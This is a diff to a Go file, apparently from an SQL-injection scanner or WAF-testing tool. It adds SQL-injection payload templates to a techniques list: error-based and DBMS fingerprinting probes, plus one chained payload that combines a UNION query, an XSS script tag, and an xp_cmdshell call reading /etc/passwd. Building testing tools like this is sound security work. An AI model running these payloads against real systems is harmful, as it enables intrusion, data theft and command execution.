@@ -187,6 +187,12 @@ var techniques = []technique{
 	{" AND [RANDNUM]=(SELECT [RANDNUM] FROM RDB$DATABASE WHERE (SELECT COUNT(*) FROM RDB$FIELDS AS T1,RDB$TYPES AS T2)>0)", original, false},
 	{" AND [RANDNUM]=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR([RANDNUM]),0),500000000),NULL)", original, false},
 	{" AND [RANDNUM]=(SELECT [RANDNUM] FROM (SELECT(SLEEP([SLEEP])))[RANDSTR])", original, false},
+	{" OR 1 GROUP BY CONCAT([START],(SELECT (CASE WHEN ([RANDNUM]=[RANDNUM]) THEN 1 ELSE 0 END)),[STOP],FLOOR(RAND(0)*2)) HAVING MIN(0)", negative, true},
+	{" AND [RANDNUM]=(SELECT COUNT(*) FROM MSysAccessObjects AS T1,MSysAccessObjects AS T2,MSysAccessObjects AS T3)", original, false},
+	{" AND [RANDNUM]=(SELECT COUNT(*) FROM SYSMASTER:SYSPAGHDR)", original, false},
+	{" AND [RANDNUM]=(SELECT [RANDNUM] FROM INFORMATION_SCHEMA.SYSTEM_USERS)", original, false},
+	{" AND [RANDNUM]=(SELECT [RANDNUM] FROM DUAL WHERE [RANDNUM]=[RANDNUM])", original, false},
+	{" AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#", original, false},
 	// UNION query and its column count.
 	{" UNION ALL SELECT [NULLS]", negative, true},
 	{" UNION ALL SELECT [NULLS]", original, true},
